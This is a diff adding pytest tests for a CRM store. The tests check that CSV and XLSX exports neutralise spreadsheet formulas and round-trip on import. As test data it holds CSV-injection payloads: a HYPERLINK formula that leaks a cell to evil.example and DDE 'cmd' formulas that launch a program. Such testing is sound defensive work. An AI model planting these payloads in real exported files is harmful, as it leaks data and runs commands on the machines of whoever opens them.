@@ -136,3 +136,73 @@ def test_export_round_trips(
                 assert list(export_rows(a, kind)[1]) == list(export_rows(b, kind)[1])
     finally:
         other.dispose()
+
+
+# --- CSV injection ----------------------------------------------------------------------------------
+FORMULAS = {
+    "first_name": '=HYPERLINK("http://evil.example/?d="&A2,"click")',
+    "last_name": "+1+cmd|' /C calc'!A0",
+    "salutation": "-2+3",
+    "job_title": "@SUM(1+1)",
+}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_attack_export_writes_no_formula_and_round_trips(
+    db: Database, system: Actor, tmp_path: Path, sqlite_template: Path, fmt: str
+) -> None:
+    """Attack: a contact whose name is a formula; a colleague exports and opens the file in a spreadsheet,
+    which runs it. Before the fix the XLSX held formula cells and the CSV bare ``=...`` cells."""
+    import csv as csv_module
+
+    from openpyxl import load_workbook
+
+    with db.session() as s:
+        crm = CrmServices(s, system)
+        org = crm.organizations.create({"name": "=cmd|' /C calc'!A0", "industry": "'=already quoted"})
+        crm.contacts.create({"first_name": "Bell\x07", "last_name": "Char"})  # XLSX cannot hold \x07
+        crm.contacts.create({**FORMULAS, "email": "x@evil.example", "phones": ["+49 170 5550100"],
+                             "organization_id": org.id, "tags": ["@risk"]})
+    paths = [_export(db, kind, tmp_path / f"{kind}.{fmt}", fmt) for kind in ("organizations", "contacts")]
+    cells: list[str] = []
+    for path in paths:
+        if fmt == "xlsx":
+            wb = load_workbook(path)  # not data_only: formulas would show as data_type "f"
+            for row in wb.worksheets[0].iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (cell.coordinate, cell.value)
+                    cells.append(str(cell.value or ""))
+            wb.close()
+        else:
+            with path.open(encoding="utf-8-sig", newline="") as fh:
+                cells.extend(c for row in csv_module.reader(fh) for c in row)
+    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    if fmt == "csv":
+        assert dangerous == []
+        assert "'" + FORMULAS["first_name"] in cells and "'+491705550100" in cells
+        assert "''=already quoted" in cells
+    else:
+        assert FORMULAS["first_name"] in dangerous  # stored as a plain string cell, shown as written
+    shutil.copy(sqlite_template, tmp_path / "copy.db")
+    other = Database(f"sqlite:///{tmp_path / 'copy.db'}")
+    try:
+        assert import_file(other, system, "organizations", paths[0]).errors == []
+        assert import_file(other, system, "contacts", paths[1]).errors == []
+        dropped = "\x07" if fmt == "xlsx" else ""  # what an XLSX cell cannot hold is dropped
+        for kind in ("organizations", "contacts"):
+            with db.session() as a, other.session() as b:
+                expected = [[c.replace(dropped, "") if dropped else c for c in r] for r in export_rows(a, kind)[1]]
+                assert expected == list(export_rows(b, kind)[1])
+        with other.session() as b:
+            contact = b.execute(select(Contact).where(Contact.last_name == FORMULAS["last_name"])).scalar_one()
+            assert contact.first_name == FORMULAS["first_name"] and contact.job_title == "@SUM(1+1)"
+    finally:
+        other.dispose()
+
+
+def test_neutralise_and_restore_are_inverse() -> None:
+    from crm_store.importer import neutralise_formula, restore_formula
+
+    for value in ["", "'", "plain", "'plain", "=1", "'=1", "''=1", "\t=1", "-", "@", "+49", "a=b"]:
+        assert restore_formula(neutralise_formula(value)) == value
+        assert not neutralise_formula(value).startswith(("=", "+", "-", "@", "\t"))
